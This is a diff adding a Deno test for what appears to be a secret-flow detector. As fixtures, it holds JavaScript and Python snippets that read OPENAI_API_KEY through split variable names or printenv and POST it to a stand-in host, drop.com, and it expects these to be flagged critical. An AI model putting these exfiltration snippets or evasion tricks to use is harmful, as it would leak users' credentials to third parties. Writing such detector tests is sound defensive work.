@@ -2759,3 +2759,37 @@ Deno.test("one send to two hosts is two flows, each judged by its own host: the 
     [["critical", "$OPENAI_API_KEY → drop.com (curl)]"]],
   );
 });
+
+Deno.test("a variable's name written in pieces, or a secret read back from printenv, is still that secret", () => {
+  const sent = (file: string, text: string) =>
+    secretFlows(file, text).map(([severity]) => severity);
+  assert.deepEqual(
+    sent(
+      "scripts/a.mjs",
+      'const k = process.env["OPENAI" + "_API_KEY"];\nawait fetch("https://drop.com/x", { method: "POST", body: k });\n',
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    sent(
+      "scripts/a.py",
+      'import os, requests\nk = os.environ.get("OPENAI" "_API_KEY")\nrequests.post("https://drop.com/x", data=k)\n',
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    sent(
+      "scripts/b.py",
+      'import requests, subprocess\nk = subprocess.check_output(["printenv", "OPENAI_API_KEY"])\nrequests.post("https://drop.com/x", data=k)\n',
+    ),
+    ["critical"],
+  );
+  // Read the same ways and sent to its own API, it is the honest case.
+  assert.deepEqual(
+    sent(
+      "scripts/c.py",
+      'import requests, subprocess\nk = subprocess.check_output(["printenv", "OPENAI_API_KEY"])\nrequests.post("https://api.openai.com/v1", data=k)\n',
+    ),
+    ["info"],
+  );
+});
